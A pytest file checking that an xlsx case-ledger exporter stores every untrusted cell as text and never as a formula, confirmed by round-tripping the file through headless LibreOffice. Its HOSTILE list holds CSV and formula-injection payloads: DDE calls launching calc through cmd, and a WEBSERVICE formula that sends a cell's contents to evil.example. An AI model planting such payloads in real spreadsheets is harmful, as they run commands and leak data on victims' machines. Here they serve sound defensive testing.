"""The 汇总表 opened by LibreOffice and read back: hostile cells stay text, whatever they begin with."""

from __future__ import annotations

import csv
import io
import subprocess
import zipfile
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from inbox_ingest.conversion import find_libreoffice
from inbox_ingest.reports.ledger import LONGEST_CELL, write_xlsx
from tests.reports.test_exports import CASE

HOSTILE = [
    '=HYPERLINK("http://evil.example","点这里")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "{=1+1}",
    "'=1+1",
    "13900000001",
    "1e5",
    "2025-06-30",
    "00123",
    "TRUE",
    "#REF!",
]


def written(*titles: str, **more: Any) -> bytes:
    stream = io.BytesIO()
    lines = [
        CASE | {"case_no": f"DJ{number:03d}", "title": title} | more
        for number, title in enumerate(titles, 1)
    ]
    write_xlsx("cases", lines, stream)
    return stream.getvalue()


def titles_of(book: bytes) -> list[Any]:
    sheet = openpyxl.load_workbook(io.BytesIO(book)).active
    assert sheet is not None
    return [sheet.cell(row, 3).value for row in range(2, sheet.max_row + 1)]


def test_nothing_that_a_sender_wrote_is_stored_as_a_formula() -> None:
    book = written(*HOSTILE)
    with zipfile.ZipFile(io.BytesIO(book)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
        names = parts.namelist()
    assert "<f>" not in sheet
    assert not any("externalLink" in name or "comment" in name for name in names)
    assert [str(title).strip() for title in titles_of(book)] == [text.strip() for text in HOSTILE]


@given(st.text(alphabet=st.characters(exclude_categories=()), max_size=40))
@settings(max_examples=60, deadline=None)
def test_whatever_stands_in_a_cell_the_workbook_stays_xml_that_can_be_read(text: str) -> None:
    with zipfile.ZipFile(io.BytesIO(written(text))) as parts:
        for name in parts.namelist():
            if name.endswith(".xml"):
                ElementTree.fromstring(parts.read(name))


@pytest.mark.parametrize("character", ["字", "🙂"])
def test_a_text_too_long_for_a_cell_is_cut_where_excel_counts_its_limit(character: str) -> None:
    (title,) = titles_of(written(character * 40_000))
    assert title.endswith("…")
    assert len(title.encode("utf-16-le")) <= 2 * LONGEST_CELL
    assert len(title) > LONGEST_CELL // 2 - 2


def test_the_heading_stays_in_sight_and_columns_fit_chinese() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(written("题目"))).active
    assert sheet is not None
    assert sheet.freeze_panes == "B2"
    for column in sheet.iter_cols(1, sheet.max_column):
        heading = str(column[0].value)
        width = sheet.column_dimensions[column[0].column_letter].width
        assert width >= min(2 * len(heading), 12), heading


def test_a_blind_ledger_has_no_column_that_names_the_unit() -> None:
    stream = io.BytesIO()
    write_xlsx("cases", [CASE | {"fields": {"推荐单位": "某局"}}], stream, blind=True)
    sheet = openpyxl.load_workbook(stream).active
    assert sheet is not None
    headings = [cell.value for cell in sheet[1]]
    assert headings == [
        "编号",
        "申报类型",
        "案例名称",
        "状态",
        "概要字数",
        "正文字数",
        "案例概要和创新之处",
        "正文各部分",
    ]


@pytest.mark.libreoffice
def test_libreoffice_shows_every_cell_as_it_was_written(tmp_path: Path) -> None:
    program = find_libreoffice()
    if program is None or not (Path(program).resolve().parent / "libsclo.so").exists():
        pytest.skip("LibreOffice Calc is not installed (apt: libreoffice-calc-nogui)")
    (tmp_path / "汇总表.xlsx").write_bytes(
        written(*HOSTILE, summary="第一行\n第二行\x00\x1b", unit="\ufffe某单位\uffff")
    )
    subprocess.run(
        [
            program,
            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76",  # comma, quotes, UTF-8
            "--outdir",
            tmp_path,
            tmp_path / "汇总表.xlsx",
        ],
        check=True,
        capture_output=True,
        timeout=120,
        stdin=subprocess.DEVNULL,
    )
    with (tmp_path / "汇总表.csv").open(encoding="utf-8", newline="") as stream:
        rows = list(csv.reader(stream))
    assert rows[0][:4] == ["编号", "申报类型", "案例名称", "申报单位"]
    assert [row[2].strip() for row in rows[1:]] == [text.strip() for text in HOSTILE]
    assert {row[3] for row in rows[1:]} == {"某单位"}
    assert {row[11] for row in rows[1:]} == {"第一行\n第二行"}
